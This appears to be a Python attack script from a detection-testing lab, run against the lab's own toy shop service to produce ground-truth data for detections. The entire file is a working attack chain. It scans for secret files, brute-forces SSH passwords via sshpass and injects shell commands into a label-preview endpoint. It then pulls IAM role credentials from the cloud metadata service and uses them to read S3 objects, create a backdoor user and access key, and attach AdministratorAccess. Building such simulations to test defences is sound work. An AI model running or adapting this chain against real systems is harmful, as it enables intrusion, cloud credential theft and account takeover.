"""The attack on our own toy service: look, guess, inject, take the role's credentials, use them elsewhere.

    python3 attack.py WORK PACE        (in the outer namespace)

Every loop is bounded. PACE multiplies the pauses (1 is the recording's). What was done, and when, is written
to ``WORK/attack.json``: the ground truth, which no detection reads.
"""

from __future__ import annotations

import http.client
import json
import subprocess
import sys
import time
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any
from urllib.parse import quote, urlencode

import plan
from client import Cloud

FIRST, SECOND = plan.ATTACKERS
SCANNER = "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)"
BY_HAND = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
WANTED = (
    "/.env", "/.env.backup", "/.git/config", "/.git/HEAD", "/.aws/credentials", "/wp-login.php",
    "/wp-admin/setup-config.php", "/phpmyadmin/index.php", "/actuator/env", "/actuator/health",
    "/server-status", "/etc/passwd", "/admin/", "/backup.zip", "/config.json", "/debug", "/login",
    "/api/v1/users", "/swagger.json", "/robots.txt", "/sitemap.xml", "/.well-known/security.txt", "/console",
    "/cgi-bin/test.cgi", "/old/", "/test/",
)  # fmt: skip
NAMES = ("admin", "test", "oracle", "postgres", "ubuntu", "git", "deploy", "jenkins", "ftpuser",
         "minecraft", "www", "mysql", "backup", "guest", "pi", "nagios", "tomcat", "hadoop", "user",
         "support")  # fmt: skip
GUESSES = ("123456", "password", "admin", "changeme")
ROLES = f"http://{plan.METADATA}/latest/meta-data/iam/security-credentials/"
PREVIEW = "/labels/preview?"
ODD = ("/articles?category='", "/article?number=1%20or%201=1", "/articles/search?words=%3Cscript%3E")
ADMINISTRATOR = "arn:aws:iam::aws:policy/AdministratorAccess"


class Attack:
    """One run, with its diary."""

    def __init__(self, pace: float) -> None:
        """Start a diary; ``pace`` stretches the pauses."""
        self._pace = pace
        self.phases: list[dict[str, Any]] = []
        self.commands: list[str] = []

    def pause(self, seconds: float) -> None:
        """Wait."""
        time.sleep(seconds * self._pace)

    def phase(self, name: str) -> None:
        """Note that a phase begins and the one before it has ended."""
        now = time.time_ns() // 1_000_000
        if self.phases:
            self.phases[-1]["until"] = now
        self.phases.append({"phase": name, "from": now})

    def get(self, path: str, agent: str) -> str:
        """Ask the shop."""
        connection = http.client.HTTPConnection(plan.SHOP_PUBLIC, timeout=20, source_address=(FIRST, 0))
        try:
            connection.request("GET", path, headers={"User-Agent": agent})
            return connection.getresponse().read().decode("utf-8", "replace")
        finally:
            connection.close()

    def scan(self) -> None:
        """Ask for what should not be there, a few times, and for the shop's own pages with odd values."""
        for round_ in range(4):
            for path in WANTED:
                self.get(path if round_ == 0 else f"{path}?{round_}", SCANNER)
                self.pause(0.12)
        for path in ODD:
            self.get(path, SCANNER)
            self.pause(0.5)

    def guess(self) -> None:
        """Guess names and passwords, from two addresses."""
        tries = [(name, word) for name in NAMES for word in GUESSES]
        tries += [("root", word) for word in GUESSES] + [("priya", word) for word in GUESSES[:2]]
        with ThreadPoolExecutor(4) as pool:
            list(pool.map(self._login, range(len(tries)), tries))

    def _login(self, number: int, who: tuple[str, str]) -> None:
        source = FIRST if number % 3 else SECOND
        subprocess.run(
            ["sshpass", "-p", who[1], "ssh", "-F", "none", "-b", source, "-o", "StrictHostKeyChecking=no",
             "-o", "UserKnownHostsFile=/dev/null", "-o", "PreferredAuthentications=password",
             "-o", "PubkeyAuthentication=no", "-o", "NumberOfPasswordPrompts=1", "-o", "ConnectTimeout=10",
             f"{who[0]}@{plan.SHOP_PUBLIC}", "true"],
            check=False, stdin=subprocess.DEVNULL, capture_output=True, timeout=60,
        )  # fmt: skip
        self.pause(0.5)

    def inject(self, command: str, *, plus: bool = False) -> str:
        """Have the label preview run a command and return what it printed."""
        self.commands.append(command)
        text = f"x;{command}"
        query = urlencode({"text": text}) if plus else "text=" + quote(text, safe="/:;=")
        answer = self.get(PREVIEW + query, BY_HAND)
        self.pause(4)
        return str(json.loads(answer)["label"]).partition("x")[2]

    def enter(self) -> dict[str, str]:
        """Find out that the preview runs commands, look around, and take the role's credentials."""
        for text in ("Test", "'", "Test|rev", "$(id)"):
            self.get(PREVIEW + urlencode({"text": text}), BY_HAND)
            self.pause(4)
        self.inject("id", plus=True)
        self.inject("whoami")
        self.inject("uname -a", plus=True)
        self.inject("hostname")
        self.inject("cat /etc/passwd")
        self.inject("ls -la /app/shop")
        self.inject("cat /proc/self/mounts")
        self.inject(f"curl -s -m 5 http://{plan.METADATA}/latest/meta-data/")
        role = "".join(self.inject(f"curl -s -m 5 {ROLES}").split())
        taken = self.inject(f"curl -s -m 5 {ROLES}{role}")
        found: dict[str, str] = json.loads(taken.replace("\n", ""))
        return found

    def use(self, taken: dict[str, str]) -> None:
        """Use the credentials from outside: some of it is allowed, most is not."""
        cloud = Cloud(
            taken["AccessKeyId"],
            taken["Token"],
            FIRST,
            "aws-cli/2.17.9 md/awscrt#0.20.11 os/linux",
            secret=taken["SecretAccessKey"],
        )
        cloud.call("sts", "GetCallerIdentity")
        self.pause(5)
        cloud.s3("GET", "/")
        self.pause(5)
        listed = json.loads(cloud.s3("GET", f"/{plan.BUCKET}")[1])["Keys"]
        for key in listed[:12]:
            cloud.s3("GET", key)
            self.pause(0.7)
        for service, action, parameters in (
            ("iam", "ListUsers", {}),
            ("iam", "CreateUser", {"UserName": "support-sync"}),
            ("iam", "CreateAccessKey", {"UserName": "support-sync"}),
            ("iam", "AttachUserPolicy", {"UserName": "priya", "PolicyArn": ADMINISTRATOR}),
            ("iam", "PutRolePolicy", {"RoleName": plan.ROLE, "PolicyName": "more", "PolicyDocument": "{}"}),
            ("ec2", "DescribeInstances", {}),
            ("secretsmanager", "ListSecrets", {}),
            ("ssm", "DescribeParameters", {}),
        ):  # fmt: skip
            cloud.call(service, action, **parameters)
            self.pause(3)


def main() -> None:
    """Attack, phase by phase."""
    work, pace = Path(sys.argv[1]), float(sys.argv[2])
    attack = Attack(pace)
    attack.phase("scan")
    attack.scan()
    attack.phase("guess")
    attack.guess()
    attack.pause(10)
    attack.phase("inject")
    taken = attack.enter()
    attack.pause(15)
    attack.phase("use")
    attack.use(taken)
    attack.phase("over")
    (work / "attack.json").write_text(
        json.dumps({"phases": attack.phases[:-1], "commands": attack.commands}), encoding="utf-8"
    )


if __name__ == "__main__":
    main()
